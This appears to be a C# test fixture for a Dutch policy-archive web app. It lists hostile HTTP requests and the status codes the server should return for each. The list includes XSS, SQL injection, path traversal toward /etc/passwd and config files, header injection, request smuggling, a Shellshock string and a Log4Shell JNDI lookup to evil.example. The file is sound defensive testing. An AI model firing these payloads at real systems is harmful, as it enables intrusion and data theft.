namespace PolicyArchive.App.Tests.Hostile;

internal sealed record HostileRequest(string Name, string Request, int Status);

/// <summary>The table of hostile requests: targets, methods, headers and bodies, each with the status it deserves.</summary>
internal static class HostileRequests
{
    private const string NoSuchId = "0123456789abcdef";

    public static IReadOnlyList<HostileRequest> All { get; } =
    [
        .. Targets.Select(row => new HostileRequest($"GET {Short(row.Target)}", Get(row.Target), row.Status)),
        .. Methods.Select(row => new HostileRequest($"{row.Method} {row.Target}", Send(row.Method, row.Target, "Content-Length: 0\r\n"), row.Status)),
        .. Headers.Select(row => new HostileRequest(Short(row.Headers), Send("GET", row.Target, row.Headers), row.Status)),
        .. Broken.Select(row => new HostileRequest(Short(row.Request), row.Request, row.Status)),
    ];

    private static (string Target, int Status)[] Targets =>
    [
        // Scripts and markup in every place that comes back on a page.
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", 200),
        ("/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", 200),
        ("/?q='-alert(1)-'", 200),
        ("/?q=%3Cimg%20src=x%20onerror=alert(1)%3E", 200),
        ("/?q=x&afzender=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", 200),
        ("/?q=x&dossier=%3Cscript%3Ealert(1)%3C/script%3E", 200),
        ("/?q=x&soort=%3Cscript%3Ealert(1)%3C/script%3E", 400),
        ("/?q=x&jaar=%3Cscript%3E", 400),
        ("/toezeggingen?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", 200),
        ("/toezeggingen?bewindspersoon=%22onfocus=alert(1)%20autofocus", 200),
        ("/toezeggingen?status=%3Cscript%3Ealert(1)", 400),
        ("/bijlagen?afzender=%3Cscript%3Ealert(1)%3C/script%3E", 200),
        ("/bijlagen.csv?afzender=%3DHYPERLINK(%22x%22)", 200),
        ("/zoeken.atom?q=%3C!%5BCDATA%5B%3Cscript%3Ealert(1)%3C/script%3E%5D%5D%3E", 200),
        ("/zoeken.atom?q=%00%01%02%0B", 200),
        ("/suggesties?q=%3Cscript%3Ealert(1)%3C/script%3E", 200),
        ("/%3Cscript%3Ealert(1)%3C/script%3E", 404),
        ("/documenten/%3Cscript%3Ealert(1)%3C%2Fscript%3E", 404),
        ("/toezeggingen/%3Cscript%3Ealert(1)", 404),
        ("/v1/documents?q=%3Cscript%3E", 200),
        ("/v1/commitments/%3Cscript%3Ealert(1)", 404),

        // Queries that try the reader of queries.
        ("/?q=%22", 200),
        ("/?q=((((((((((((((((((((", 200),
        ("/?q=AND%20OR%20NOT", 200),
        ("/?q=*", 200),
        ("/?q=%3F%3F%3F%3F*", 200),
        ("/?q=a*%20b*%20c*%20d*%20e*", 200),
        ("/?q=-%20-%20-", 200),
        ("/?q=%5B%20TO%20%5D", 200),
        ("/?q=x%5E999999999", 200),
        ("/?q=title:%2F(a%2B)%2B%24%2F", 200),
        ("/?q=%F0%9F%92%A9", 200),
        ("/?q=%E2%80%AE%D7%90", 200),
        ("/?q=%C0%AF%C0%AE", 200),
        ("/?q=%FF%FE%FD", 200),
        ("/?q=%ED%A0%80", 200),
        ("/?q=%00", 200),
        ("/?q=%0D%0ASet-Cookie:%20a=b", 200),
        ("/?q=%u0041", 200),
        ("/?q=%", 200),
        ("/?q=%zz", 200),
        ("/?q=' OR 1=1 --".Replace(' ', '+'), 200),
        ("/?q=';DROP+TABLE+documents;--", 200),
        ("/?" + new string('q', 3000), 200),
        ("/?q=" + new string('a', 501), 400),
        ("/?q=" + new string('a', 7000), 400),
        ("/?q=" + new string('(', 400), 200),
        ("/?q=" + string.Join('+', Enumerable.Repeat("\"a", 160)), 200),
        ("/?" + string.Join('&', Enumerable.Repeat("soort=brief", 21)), 400),
        ("/?" + string.Join('&', Enumerable.Repeat("q=a", 21)), 400),
        ("/?q=x&pagina=0", 400),
        ("/?q=x&pagina=-1", 400),
        ("/?q=x&pagina=1001", 400),
        ("/?q=x&pagina=99999999999999999999", 400),
        ("/?q=x&pagina=1e3", 400),
        ("/?q=x&jaar=99999", 400),
        ("/?q=x&jaar=0", 400),
        ("/toezeggingen?van=2026-13-45", 400),
        ("/toezeggingen?peildatum=gisteren", 400),
        ("/toezeggingen?peildatum=0001-01-01", 200),
        ("/toezeggingen?peildatum=9999-12-31", 200),
        ("/toezeggingen?pagina=10000", 200),
        ("/bijlagen?uitkomst=alles", 400),
        ("/bijlagen?sinds=%00", 400),
        ("/documenten/" + NoSuchId, 404),
        ("/documenten/" + NoSuchId + "?pagina=0", 400),
        ("/documenten/" + NoSuchId + "?van=-1&lengte=5", 400),
        ("/documenten/" + NoSuchId + "?pagina=1&van=2147483648&lengte=1", 400),
        ("/documenten/" + new string('a', 5000), 404),
        ("/documenten/%00", 400),

        // Ways out of the folder.
        ("/../../etc/passwd", 404),
        ("/..%2f..%2fetc%2fpasswd", 404),
        ("/%2e%2e/%2e%2e/etc/passwd", 404),
        ("/..%5c..%5cwindows%5cwin.ini", 404),
        ("/.%252e/.%252e/etc/passwd", 404),
        ("/documenten/..%2f..%2fetc%2fpasswd", 404),
        ("/documenten/....//....//etc/passwd", 404),
        ("/app.css/../../appsettings.json", 404),
        ("/appsettings.json", 404),
        ("/.git/config", 404),
        ("/index/catalogue.db", 404),
        ("/v1/documents/..%2f..%2fetc%2fpasswd/original", 404),
        ("/v1/documents/%2e%2e%2f%2e%2e%2fetc%2fpasswd/text", 404),
        ("/v1/documents/bijzonder%2fafgebroken.pdf/original", 404),
        ("/v1/documents/" + NoSuchId + "/original", 404),
        ("/v1/documents/0123/text", 404),
        ("/v1/documents/%/text", 404),

        // Parameters of the API.
        ("/v1/documents?Q=x", 400),
        ("/v1/documents?q=a&q=b", 400),
        ("/v1/documents?limit=101", 400),
        ("/v1/documents?limit=-1", 400),
        ("/v1/documents?limit=%00", 400),
        ("/v1/documents?limit=1;DROP", 400),
        ("/v1/documents?offset=10001", 400),
        ("/v1/documents?from=2026-02-30", 400),
        ("/v1/documents?kind=%2e%2e", 400),
        ("/v1/documents?sort=wreed", 400),
        ("/v1/documents?callback=alert", 400),
        ("/v1/documents?q=" + new string('a', 1001), 400),
        ("/v1/commitments?overdue=yes", 400),
        ("/v1/commitments?status=1", 400),
        ("/v1/commitments?as-of=now", 400),
        ("/v1/enclosures?outcome=0", 400),
        ("/v1/documents/", 404),
        ("/v1//documents", 404),
        ("/v2/documents", 404),
        ("/v1", 404),
    ];

    private static (string Method, string Target, int Status)[] Methods =>
    [
        ("POST", "/", 405),
        ("PUT", "/toezeggingen", 405),
        ("DELETE", "/documenten/" + NoSuchId, 405),
        ("PATCH", "/v1/commitments", 405),
        ("POST", "/v1/documents", 405),
        ("DELETE", "/v1/documents/" + NoSuchId, 405),
        ("OPTIONS", "/v1/documents", 405),
        ("TRACE", "/v1/documents", 405),
        ("PROPFIND", "/", 405),
        ("get", "/", 200),
        ("HEAD", "/bestaat-niet", 404),
        ("HEAD", "/v1/documents", 200),
    ];

    private static (string Target, string Headers, int Status)[] Headers =>
    [
        ("/", "X-HTTP-Method-Override: DELETE\r\n", 200),
        ("/", "X-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: javascript\r\n", 200),
        ("/", "X-Original-URL: /admin\r\nX-Rewrite-URL: /admin\r\n", 200),
        ("/", "Cookie: " + new string('a', 8000) + "\r\n", 200),
        ("/", "Cookie: " + new string('a', 40000) + "\r\n", 431),
        ("/", "Accept: ../../etc/passwd\r\nAccept-Language: <script>alert(1)</script>\r\n", 200),
        ("/", "Range: bytes=0-10\r\n", 200),
        ("/", "If-None-Match: \"" + new string('x', 4000) + "\"\r\n", 200),
        ("/app.css", "Range: bytes=-\r\n", 200),
        ("/app.css", "If-Modified-Since: gisteren\r\n", 200),
        ("/", "User-Agent: () { :; }; /bin/bash -c id\r\n", 200),
        ("/", "User-Agent: ${jndi:ldap://evil.example/a}\r\n", 200),
        ("/", "Expect: 200-nonsense\r\n", 200),
        ("/", "Content-Length: 5000000000\r\n", 200),
        ("/", "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", 200),
        ("/", "Content-Length: -1\r\n", 400),
        ("/", "Content-Length: 4\r\nContent-Length: 5\r\n", 400),
        ("/", "Bad Header Name: x\r\n", 400),
        ("/", "Host: second.example\r\n", 400),
        ("/", string.Concat(Enumerable.Range(0, 120).Select(number => $"X-{number}: a\r\n")), 431),
    ];

    private static (string Request, int Status)[] Broken =>
    [
        ("GET / HTTP/1.1\r\nConnection: close\r\n\r\n", 400),
        ("GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n", 400),
        ("GET /v1/documents HTTP/1.1\r\nHost: localhost.evil.example:5080\r\nConnection: close\r\n\r\n", 400),
        ("GET /zoeken.atom HTTP/1.1\r\nHost: <script>alert(1)\r\nConnection: close\r\n\r\n", 400),
        ("GET / HTTP/9.9\r\nHost: localhost\r\nConnection: close\r\n\r\n", 505),
        ("GET /\r\n\r\n", 400),
        ("\0\0\0\0\0\0\r\n\r\n", 400),
        ("GET http://evil.example/ HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", 400),
        ("GET /\u00ff\u00fe HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", 400),
        ("GET /" + new string('a', 20000) + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", 414),
        ("CONNECT localhost:22 HTTP/1.1\r\nHost: localhost:22\r\nConnection: close\r\n\r\n", 405),
    ];

    private static string Get(string target) => Send("GET", target, "");

    private static string Send(string method, string target, string headers) =>
        $"{method} {target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n{headers}\r\n";

    private static string Short(string text) => text.Length <= 70 ? text : $"{text[..60]}… ({text.Length})";
}
